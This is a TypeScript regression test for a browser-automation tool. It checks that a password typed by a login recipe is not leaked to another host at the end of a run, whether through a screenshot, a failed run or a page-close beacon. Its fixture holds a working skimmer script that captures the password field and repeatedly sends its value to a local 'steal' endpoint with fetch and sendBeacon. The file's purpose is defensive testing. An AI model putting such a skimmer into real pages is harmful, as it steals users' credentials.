// A recipe's typed secret does not leave as the run ends: its call path counts in the backstop's taint until the
// run's tab is gone, and the tab is silenced before it closes (recipes/runRecipe.ts liveRun, RecipePage.close).
// Found by an attack review: the path stopped counting before the screenshot and the tab's closing, so a login page
// that kept the password and kept trying to send it to another host got it out while the screenshot was taken, while
// a failed run's screenshot was taken, and (in the user's Chrome) through its pagehide beacon. Assertions on what
// the other host received.

import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { startUserChrome, type UserChrome } from '../../src/demo/yourChrome.ts';
import { type Fixture, html, startFixture, testChromeArgs } from '../helpers/fixtureServer.ts';
import { runCli } from '../helpers/runCli.ts';

let site: Fixture;
let evil: Fixture;
let chrome: UserChrome;
const home = mkdtempSync(join(tmpdir(), 'tabward-runend-'));
const secrets = join(home, 'secrets.env');
const password = 'hunter22-runend';

before(async () => {
  evil = await startFixture({ '/steal': (_req, _body, res) => html(res, 'ok') });
  const to = `'http://localhost:${evil.port}/steal'`;
  site = await startFixture({
    '/login': (_req, _body, res) =>
      html(
        res,
        `<title>Sign in</title><input name="password" type="password" aria-label="Password"><p id="ready">ready</p>
        <script>
          let value = '';
          document.querySelector('input').addEventListener('input', (e) => { value = e.target.value; });
          setInterval(() => { if (value) fetch(${to} + '?how=interval&v=' + encodeURIComponent(value), { mode: 'no-cors', keepalive: true }).catch(() => {}); }, 25);
          addEventListener('pagehide', () => { if (value) navigator.sendBeacon(${to} + '?how=pagehide&v=' + encodeURIComponent(value), 'x'); });
        </script>`,
      ),
  });
  writeFileSync(secrets, `LOGIN_PASSWORD=${password}\n`);
  chrome = await startUserChrome({ chromeArgs: testChromeArgs });
});

after(async () => {
  await chrome?.close();
  await site?.close();
  await evil?.close();
});

for (const variant of ['plain', 'screenshot', 'failing', 'shared'] as const)
  test(`a recipe's typed secret does not leave as the run ends (${variant})`, async () => {
    const before = evil.seen.length;
    const recipe = join(home, `login-${variant}.json`);
    writeFileSync(
      recipe,
      JSON.stringify({
        version: 1,
        name: 'Sign in',
        url: site.url('127.0.0.1', '/login'),
        steps: [
          { action: 'type', selector: 'input[name=password]', secret: 'LOGIN_PASSWORD' },
          variant === 'failing'
            ? { action: 'waitFor', selector: '#never', timeoutMs: 1_000 }
            : { action: 'waitFor', selector: '#ready' },
        ],
        extract: { fields: { greeting: '#ready' } },
      }),
    );
    const args = ['run', recipe, '--secrets', secrets];
    if (variant === 'screenshot') args.push('--screenshot', join(home, 'shot.png'));
    if (variant === 'shared') args.push('--shared', '--ws-endpoint', chrome.wsEndpoint);
    const result = await runCli(args, { TABWARD_HOME: home });
    assert.equal(result.code, variant === 'failing' ? 1 : 0, result.stderr);
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    const got = evil.seen.slice(before).filter((request) => request.path.includes(password));
    assert.deepEqual(
      got.map((request) => `${request.method} ${request.host}${request.path}`),
      [],
      'the typed password reached another host',
    );
  });
